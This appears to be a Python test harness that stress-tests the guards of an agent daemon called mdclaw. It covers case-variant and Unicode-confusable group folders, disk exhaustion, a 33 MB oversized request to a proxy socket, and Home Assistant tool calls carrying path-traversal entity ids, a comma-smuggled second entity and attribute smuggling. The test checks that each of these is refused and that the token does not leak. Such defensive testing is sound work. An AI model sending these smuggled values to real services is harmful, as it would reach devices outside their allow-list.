        ord(c) < 32 or c in "\u202e\u202d\u200f\u200e" for c in text)


async def item6(w: World) -> None:
    """FAMILY beside family: check-config, and register_group over IPC as main."""
    assert w.daemon is not None
    cfgs = {}
    base = w.daemon.cfg.read_text()
    for label, extra in (
            ("FAMILY beside family", '  FAMILY: {name: F2, jid: "hl:fam2"}\n'),
            ("Main beside main", '  Main: {name: M2, jid: "hl:m2"}\n'),
            ("fAmIlY beside family", '  fAmIlY: {name: F3, jid: "hl:fam3"}\n')):
        cfg = w.data / f"case-{len(cfgs)}.yaml"
        cfg.write_text(_with_group(base, extra))
        p = await asyncio.to_thread(
            subprocess.run, [PYTHON, "-m", "mdclaw", "--config", str(cfg), "check-config"],
            capture_output=True, text=True, cwd=ROOT,
            env={**os.environ, "PYTHONPATH": str(ROOT)}, timeout=60)
        cfgs[label] = {"exit": p.returncode,
                       "says": (p.stdout + p.stderr).strip().splitlines()[-1:][0][:200]
                       if (p.stdout + p.stderr).strip() else ""}
    ipc = {}
    for i, folder in enumerate(("FAMILY", "Family", "MAIN", "Diskg", "fam\u0130ly")):
        name = f"rt2-reg-{i}.json"
        gdir = w.ipc("main") / "tasks"
        tmp = gdir / f".{name}.tmp"
        tmp.write_text(json.dumps({"type": "register_group", "jid": f"hl:x{i}",
                                   "name": "X", "folder": folder}))
        tmp.rename(gdir / name)
        await until(lambda n=name, g=gdir: not (g / n).exists(), f"{name} handled", 20)
        ipc[folder] = (w.daemon.d / "ipc" / "errors" / name).exists() or any(
            (w.daemon.d / "ipc" / "errors").glob(f"*{name}*"))
    groups = _registered(w.daemon)
    collisions = [g for g in groups if g.casefold() in ("family", "main", "diskg")
                  and g not in ("family", "main", "diskg")]
    held = all(c["exit"] == 1 for c in cfgs.values()) and not collisions
    emit("6 case variants of a group folder", held, check_config=cfgs,
         ipc_quarantined=ipc, registered_folders=groups)


def _with_group(base: str, extra: str) -> str:
    head, _, tail = base.partition("limits:")
    return head + extra + "limits:" + tail


def _registered(daemon: Daemon) -> list[str]:
    import sqlite3

    con = sqlite3.connect(f"file:{daemon.d / 'state.db'}?mode=ro", uri=True)
    try:
        return [r[0] for r in con.execute("SELECT folder FROM registered_groups")]
    finally:
        con.close()


async def item7(w: World) -> None:
    """The disk message names the tree that holds the bytes (ipc/<g>, sessions/<g>)."""
    assert w.daemon is not None
    said = {}
    for i, tree in enumerate(("ipc", "sessions")):
        target = w.daemon.d / tree / "diskg"
        target.mkdir(parents=True, exist_ok=True)
        big = target / "ballast.bin"
        big.write_bytes(os.urandom(2 * 1024 * 1024))
        before = _outbound(w, "hl:diskg")
        assert w.say("hl:diskg", f"@Andy hi {tree}") == 202

        def notice(b: list[str] = before) -> str | None:
            return next((t for t in _outbound(w, "hl:diskg")[len(b):] if "full" in t), None)

        # Refused at the run's start, or (the group's container already running) stopped
        # by the next measurement (disk_check_interval, 10 s).
        await until(notice, "the disk notice", 40)
        said[tree] = notice() or ""
        big.unlink()
        if i == 0:  # a run that goes: the group is under its limit again
            before = _outbound(w, "hl:diskg")
            assert w.say("hl:diskg", "@Andy again tok7") == 202
            await until(lambda b=before: len(_outbound(w, "hl:diskg")) > len(b), "an answer", 30)
    held = all(f"{tree}/diskg" in text for tree, text in said.items())
    emit("7 disk message names the tree", held, replies={k: v[:240] for k, v in said.items()})


def _outbound(w: World, jid: str) -> list[str]:
    status, body = raw_http(w.port, f"GET /messages?jid={jid} HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                            "Connection: close\r\n".encode() + w.auth + b"\r\n")
    if status != 200:
        return []
    return [m["content"] for m in json.loads(body)["messages"] if m["direction"] == "out"]


async def item8(w: World) -> None:
    """A group proxy's stop after an oversized request whose client keeps its connection
    open: from the agent's `_close` to the socket gone, against a stop without it."""
    assert w.daemon is not None
    timings = {}
    for label, hostile in (("plain", False), ("after a 413, client holds on", True)):
        sock = await w.running("family")
        held: socket.socket | None = None
        if hostile:
            held = socket.socket(socket.AF_UNIX)
            held.connect(str(sock))
            held.settimeout(30)
            held.sendall(b"POST /v1/messages HTTP/1.1\r\nHost: p\r\nContent-Type: "
                         b"application/json\r\nContent-Length: 40000000\r\n\r\n"
                         + b"x" * (33 * 1024 * 1024))
            first = held.recv(4096)
            assert b" 413 " in first, first[:80]
        close = w.ipc("family") / "input" / "_close"
        t = time.monotonic()
        close.write_bytes(b"")
        await until(lambda s=sock: not s.exists(), "the proxy socket gone", 30)
        timings[label] = round(time.monotonic() - t, 2)
        if held is not None:
            held.close()
        await until(lambda: not w.ipc("family").joinpath("input", "_close").exists()
                    or True, "", 1)
        await asyncio.sleep(0.5)
    emit("8 proxy stop after a 413", timings["after a 413, client holds on"] < 2.0,
         seconds_close_to_socket_gone=timings)


BLOCK_EXTRAS = "import sys\nsys.modules['neonize'] = None\nsys.modules['faster_whisper'] = None\n"


async def item9(work: Path) -> None:
    """channels.whatsapp / transcription.provider: local on an install without the extra:
    every command ends in one line naming the extra, never a traceback."""
    shim = work / "noextras"
    shim.mkdir()
    (shim / "sitecustomize.py").write_text(BLOCK_EXTRAS)
    out = {}
    for label, extra in (("whatsapp", "channels:\n  whatsapp: {}\n"),
                         ("transcription local", "transcription: {provider: local}\n")):
        d = work / f"x-{label.split()[0]}"
        d.mkdir()
        cfg = d / "config.yaml"
        cfg.write_text(f"data_dir: {d / 'd'}\nserver: {{listen: '127.0.0.1:{free_port()}'}}\n"
                       "runtime: {socket: 'unix:///nonexistent/engine.sock'}\n"
                       "groups: {main: {name: M, jid: 'hl:main', main: true}}\n" + extra)
        env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(shim), str(ROOT)]),
               "MDCLAW_CONFIG": str(cfg), "MDCLAW_DB_READ_TIMEOUT": "1"}
        cmds = [["check-config"], ["doctor"], ["reconcile"], ["status"], ["run"]]
        if label == "whatsapp":
            cmds.append(["whatsapp", "link"])
        rows = {}
        for cmd in cmds:
            code: int | str
            try:
                # `run` is the daemon: it keeps running (a voice note or a WhatsApp message
                # would meet the missing extra); 12 s shows how it starts.
                p = await asyncio.to_thread(
                    subprocess.run, [PYTHON, "-m", "mdclaw", *cmd], capture_output=True,
                    text=True, cwd=d, env=env, timeout=12 if cmd == ["run"] else 30,
                    stdin=subprocess.DEVNULL)
                text, code = p.stdout + p.stderr, p.returncode
            except subprocess.TimeoutExpired as e:
                text = "".join(x.decode() if isinstance(x, bytes) else (x or "")
                               for x in (e.stdout, e.stderr))
                code = "still running"
            rows[" ".join(cmd)] = {"exit": code, "traceback": "Traceback" in text,
                                   "names_extra": "pip install 'mdclaw[" in text
                                   or "mdclaw[" in text}
        out[label] = rows
    held = all(not r["traceback"] for rows in out.values() for r in rows.values()) and all(
        rows["check-config"]["exit"] == 1 and rows["check-config"]["names_extra"]
        for rows in out.values())
    emit("9 a setting without its extra", held, commands=out)


async def item10(w: World) -> None:
    """Home Assistant: entity ids with paths, an HTML answer, an invalid dashboard applied,
    the refusal's key names; the token nowhere in data_dir."""
    ha = w.ha
    before = list(ha.requests)
    r: dict[str, Any] = {}
    r["status path id"] = await w.action("main", "ha1", "ha_get_status",
                                         {"entityIds": ["light.x/../sensor.soil_moisture"]})
    r["status %2F id"] = await w.action("main", "ha2", "ha_get_status",
                                        {"entityIds": ["light.x%2F..%2Fsensor.soil_moisture"]})
    r["call path target"] = await w.action("main", "ha3", "ha_call_service", {
        "domain": "light", "service": "turn_on",
        "target": {"entity_id": "light.x/../../switch.pump"}})
    r["call comma target"] = await w.action("main", "ha4", "ha_call_service", {
        "service": "light.turn_on", "data": {"entity_id": "light.kitchen, switch.pump"}})
    r["set_entity attributes name another"] = await w.action("main", "ha5", "ha_set_entity", {
        "entity_id": "light.kitchen", "state": "on",
        "attributes": {"entity_id": "switch.pump"}})
    r["set_entity attributes area"] = await w.action("main", "ha6", "ha_set_entity", {
        "entity_id": "light.kitchen", "state": "on", "attributes": {"area_id": "house"}})
    r["refused entity key"] = await w.action("main", "ha7", "ha_get_status",
                                             {"entityIds": ["switch.pump"]})
    new = ha.requests[len(before):]
    touched = [p for _, p, _ in new if "switch" in p or "sensor" in p or ".." in p
               or "%2F" in p.upper()]
    calls = [c for c in ha.calls if c[0] != "light" or "switch.pump" in json.dumps(c[2])]
    # An invalid dashboard made with the agent's own patch, then applied.
    patch = await w.action("main", "ha8", "ha_dashboard_patch", {"operations": [
        {"op": "add_card", "view": 0, "card": {"type": "entities",
                                                "entities": ["not an id!"]}}]})
    target = w.data / "dash" / "ui-lovelace.yaml"
    before_target = target.read_bytes()
    validate = await w.action("main", "ha9", "ha_dashboard_validate", {})
    apply = await w.action("main", "ha10", "ha_apply_dashboard", {})
    # A login page answering 200.
    ha.login_page = True
    try:
        html = await w.action("main", "ha11", "ha_get_status", {})
    finally:
        ha.login_page = False
    assert w.daemon is not None
    token_files = [str(p) for p in w.daemon.d.rglob("*") if p.is_file()
                   and HA_TOKEN.encode() in p.read_bytes()]
    token_in_log = HA_TOKEN in w.daemon.log.read_text(errors="replace")
    refusal_words = r["refused entity key"].get("error", "")
    held = (all(x["status"] == "error" for k, x in r.items())
            and not touched and not calls
            and patch["status"] == "success" and validate.get("result", {}).get("valid") is False
            and apply["status"] == "error" and target.read_bytes() == before_target
            and html["status"] == "error" and "HTML" in html.get("error", "").upper()
            and "allow.entities" in refusal_words and "entitys" not in refusal_words
            and not token_files and not token_in_log)
    emit("10 Home Assistant", held,
         results={k: (x["status"], x.get("error", "")[:120]) for k, x in r.items()},
         ha_saw_paths_outside_the_allow_list=touched, ha_calls_outside=calls,
         dashboard={"validate_valid": validate.get("result", {}).get("valid"),
                    "apply": (apply["status"], apply.get("error", "")[:120]),
                    "target_unchanged": target.read_bytes() == before_target},
         html_answer=(html["status"], html.get("error", "")[:160]),
         token_in_files=token_files, token_in_log=token_in_log)


# --------------------------------------------------------------------------- main


async def main(args: argparse.Namespace) -> None:
    only = {s.strip() for s in args.only.split(",")} if args.only else None

    def wanted(item: str) -> bool:
        return only is None or item in only

    work = Path(tempfile.mkdtemp(prefix="rt2-"))
    try:
        if wanted("0"):
            await item0(work, args.rounds)
        if wanted("9"):
            await item9(work)
        names = ("1", "2", "3", "s", "4", "5", "6", "7", "8", "10")
        if any(wanted(n) for n in names):
            w = World(work)
            await w.start()
            try:
                for n, fn in (("s", item_server_tools), ("2", item2), ("3", item3),
                              ("1", item1), ("4", item4), ("5", item5), ("6", item6),
                              ("7", item7), ("8", item8), ("10", item10)):
                    if wanted(n):
                        try:
                            await fn(w)
                        except Exception as e:  # noqa: BLE001 - report and go on
                            emit(n, None, error=f"{type(e).__name__}: {e}")
            finally:
                await w.stop()
                assert w.daemon is not None
                emit("daemon B", None, tracebacks_in_log=w.daemon.tracebacks())
    finally:
        if args.keep:
            print(json.dumps({"kept": str(work)}), flush=True)
        else:
            shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    if len(sys.argv) == 3 and sys.argv[1] == "--serve":
        sys.exit(serve(sys.argv[2]))
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--only", default="", help="items to run, e.g. 0,1,s (s: server tools)")
    p.add_argument("--rounds", type=int, default=30)
    p.add_argument("--root", type=Path, default=HERE)
    p.add_argument("--python", default=sys.executable)
    p.add_argument("--keep", action="store_true", help="keep the daemons' folders and logs")
    a = p.parse_args()
    ROOT, PYTHON = a.root.resolve(), a.python
    asyncio.run(main(a))
